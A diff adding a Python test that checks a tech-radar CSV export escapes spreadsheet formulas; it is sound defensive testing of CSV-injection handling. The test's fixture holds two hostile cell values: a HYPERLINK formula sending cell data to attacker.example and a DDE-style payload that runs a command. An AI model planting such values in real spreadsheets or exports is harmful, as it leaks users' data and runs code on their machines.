@@ -119,6 +119,26 @@ def test_exports_round_trip(tmp_path: Path) -> None:
     assert {(e.title, e.ring, e.quadrant, e.description) for e in again} == key
 
 
+def test_byor_csv_export_cannot_carry_spreadsheet_formulas() -> None:
+    from lodestar.records import RadarEntry, Strategy
+
+    hostile = RadarEntry(
+        "evil",
+        '=HYPERLINK("http://attacker.example/?"&A1,"click")',
+        "Tools",
+        "Adopt",
+        description="@SUM(1+1)*cmd|' /C calc'!A0",
+    )
+    plain = RadarEntry("ruff", "Ruff", "Tools", "Adopt", description="-fast linter, +1")
+    rows = list(
+        csv.DictReader(io.StringIO(rio.export_byor_csv(Strategy(entries=(hostile, plain)))))
+    )
+    cells = [value for row in rows for value in row.values()]
+    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@"}]
+    assert rows[0]["name"].startswith("'=HYPERLINK")  # kept, made inert
+    assert rows[1]["description"] == "'-fast linter, +1"
+
+
 def test_adr_tools_folder(tmp_path: Path) -> None:
     records = {r.number: r for r in import_decisions(FIXTURES / "adr-tools")}
     assert {n: r.kind for n, r in records.items()} == dict.fromkeys(range(1, 6), "adr-tools")
